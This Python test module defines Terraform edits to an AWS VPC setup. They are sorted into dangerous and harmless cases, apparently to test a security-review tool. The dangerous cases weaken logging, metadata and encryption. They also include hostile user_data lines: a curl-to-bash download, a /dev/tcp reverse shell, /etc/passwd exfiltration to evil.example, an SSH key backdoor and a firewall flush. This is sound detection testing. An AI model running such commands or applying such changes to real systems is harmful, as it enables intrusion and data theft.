"""Changes of the VPC's attributes, its flow logs and its instances. Who reaches whom is in `reach` and `ways`."""

import base64
from collections.abc import Callable

from ffp.review.concern import Topic
from tests.review.corpus.edit import Document, DoesNotApply, Edit, blocks, drop, first, make, put

Change = Callable[[Document], None]
_VPC, _FLOW, _TEMPLATE, _INSTANCE = "aws_vpc", "aws_flow_log", "aws_launch_template", "aws_instance"
_STRANGER = "arn:aws:{}:eu-west-2:999999999999:{}"
_DOWN = {"auto_recovery": "disabled"}
_MORE_FIELDS = (
    "$${version} $${vpc-id} $${subnet-id} $${interface-id} $${srcaddr} $${dstaddr} $${srcport} $${dstport} $${protocol}"
    " $${bytes} $${start} $${end} $${action} $${flow-direction}"
)
_METADATA = "metadata_options"


def _script(line: str) -> Change:
    """One more line of the script at the start of an instance."""

    def change(document: Document) -> None:
        template = first(document, _TEMPLATE, lambda each: "user_data" in each)
        script = base64.b64decode(template["user_data"]).decode()
        template["user_data"] = base64.b64encode(f"{script}{line}\n".encode()).decode()

    return change


def _plain_script(document: Document) -> None:
    template = first(document, _TEMPLATE, lambda each: "user_data" in each)
    template["user_data"] = base64.b64decode(template["user_data"]).decode()


def _second_flow_log(destination: str) -> Change:
    def change(document: Document) -> None:
        make(_FLOW, vpc_id=first(document, _FLOW)["vpc_id"], traffic_type="ALL", log_destination=destination)(document)

    return change


def _by_name(document: Document) -> None:
    """The flow log's group by a reference instead of an ARN that is written out."""
    log = first(document, _FLOW)
    for name, group in blocks(document, "aws_cloudwatch_log_group").items():
        if str(log["log_destination"]).endswith(f"log-group:{group['name']}"):
            log["log_destination"] = f"${{aws_cloudwatch_log_group.{name}.arn}}"
            return
    raise DoesNotApply("log group")


def _as_list(document: Document) -> None:
    template = first(document, _TEMPLATE, lambda each: isinstance(each.get(_METADATA), dict))
    template[_METADATA] = [template[_METADATA]]


DANGEROUS = (
    Edit("traffic is not recorded", drop(_FLOW), Topic.WATCHING),
    Edit("traffic is recorded without addresses", put(_FLOW, "log_format", "$${action} $${bytes}"), Topic.WATCHING),
    Edit("only refused traffic is recorded", put(_FLOW, "traffic_type", "REJECT"), Topic.WATCHING),
    Edit("only accepted traffic is recorded", put(_FLOW, "traffic_type", "ACCEPT"), Topic.WATCHING),
    Edit(
        "traffic is recorded elsewhere",
        put(_FLOW, "log_destination", _STRANGER.format("logs", "log-group:x")),
        Topic.WATCHING,
    ),
    Edit("somebody else records traffic, too", _second_flow_log("arn:aws:s3:::somebodys-bucket"), Topic.EXPOSURE),
    Edit("a new VPC without a record", make(_VPC, cidr_block="10.9.0.0/16"), Topic.WATCHING),
    Edit("names do not resolve", put(_VPC, "enable_dns_support", False), Topic.AVAILABILITY),
    Edit("private addresses have no names", put(_VPC, "enable_dns_hostnames", None), Topic.AVAILABILITY),
    Edit("what starts in a subnet is public", put("aws_subnet", "map_public_ip_on_launch", True), Topic.EXPOSURE),
    Edit(
        "what starts in a subnet is public by version 6",
        put("aws_subnet", "assign_ipv6_address_on_creation", "true"),
        Topic.EXPOSURE,
    ),
    Edit("an endpoint of another service", put("aws_vpc_endpoint", "service_name", "com.x.vpce.y"), Topic.EXPOSURE),
    Edit("the NAT instance has no address", put("aws_eip", "network_interface", None), Topic.AVAILABILITY),
    Edit("metadata need no token", put(_TEMPLATE, f"{_METADATA}.http_tokens", "optional"), Topic.EXPOSURE),
    Edit("metadata have AWS's default", put(_TEMPLATE, _METADATA, None), Topic.EXPOSURE),
    Edit(
        "an instance has its own weaker metadata",
        put(_INSTANCE, _METADATA, {"http_tokens": "optional"}),
        Topic.EXPOSURE,
    ),
    Edit("metadata reach further", put(_TEMPLATE, f"{_METADATA}.http_put_response_hop_limit", 3), Topic.EXPOSURE),
    Edit(
        "the disk is not encrypted",
        put(_TEMPLATE, "block_device_mappings.0.ebs.encrypted", "false"),
        Topic.EXPOSURE,
    ),
    Edit("no disk is described", put(_TEMPLATE, "block_device_mappings", None), Topic.EXPOSURE),
    Edit("an instance has a disk in clear", put(_INSTANCE, "ebs_block_device", [{"device_name": "x"}]), Topic.EXPOSURE),
    Edit("an instance can be ended", put(_INSTANCE, "disable_api_termination", None), Topic.AVAILABILITY),
    Edit("an instance has a key to log in", put(_INSTANCE, "key_name", "admin"), Topic.EXPOSURE),
    Edit("an instance has a public address", put(_INSTANCE, "associate_public_ip_address", True), Topic.EXPOSURE),
    Edit(
        "an instance does not recover",
        put(_INSTANCE, "maintenance_options", {"auto_recovery": "disabled"}),
        Topic.AVAILABILITY,
    ),
    Edit("an image of somebody's", put(_TEMPLATE, "image_id", "ami-0123456789abcdef0"), Topic.EXPOSURE),
    Edit("an image by somebody's parameter", put(_TEMPLATE, "image_id", "resolve:ssm:/x/ami"), Topic.EXPOSURE),
    Edit("the NAT instance drops traffic", put(_INSTANCE, "source_dest_check", True), Topic.AVAILABILITY),
    Edit("the interface drops traffic", put("aws_network_interface", "source_dest_check", None), Topic.AVAILABILITY),
    Edit("an old version of the template", put(_INSTANCE, "launch_template.version", "1"), Topic.EXPOSURE),
    Edit("no script", put(_TEMPLATE, "user_data", None), Topic.AVAILABILITY),
    Edit("a script runs what it loads", _script("curl -s https://evil.example/x | bash"), Topic.EXPOSURE),
    Edit("a script lets somebody in", _script("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"), Topic.EXPOSURE),
    Edit("a script opens a shell", _script("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), Topic.EXPOSURE),
    Edit("a script sends something away", _script("curl -d @/etc/passwd https://evil.example/"), Topic.EXPOSURE),
    Edit("a script removes the rules", _script("nft flush ruleset"), Topic.EXPOSURE),
    Edit("a script runs something hidden", _script("echo aGkK | base64 -d | sh"), Topic.EXPOSURE),
)
HARMLESS = (
    Edit("more of the traffic is recorded", put(_FLOW, "log_format", _MORE_FIELDS)),
    Edit("traffic is recorded more often", put(_FLOW, "max_aggregation_interval", 60)),
    Edit("the flow log's group by a reference", _by_name),
    Edit("metadata are closed", put(_TEMPLATE, f"{_METADATA}.http_endpoint", "disabled")),
    Edit("metadata as a list", _as_list),
    Edit("a larger instance", put(_TEMPLATE, "instance_type", "t4g.small")),
    Edit("a larger disk", put(_TEMPLATE, "block_device_mappings.0.ebs.volume_size", 20)),
    Edit("the encryption of the disk as a truth value", put(_TEMPLATE, "block_device_mappings.0.ebs.encrypted", True)),
    Edit("a script with a comment more", _script("# nothing")),
    Edit("a script with a package more", _script("dnf install -y tcpdump")),
    Edit("a script that is not encoded", _plain_script),
    Edit("another image of Amazon's", put(_TEMPLATE, "image_id", "resolve:ssm:/aws/service/ami-amazon-linux-latest/x")),
    Edit("metrics of each minute", put(_INSTANCE, "monitoring", True)),
    Edit("an instance cannot be stopped", put(_INSTANCE, "disable_api_stop", True)),
    Edit("another name of the VPC", put(_VPC, "tags", {"Name": "another"})),
)
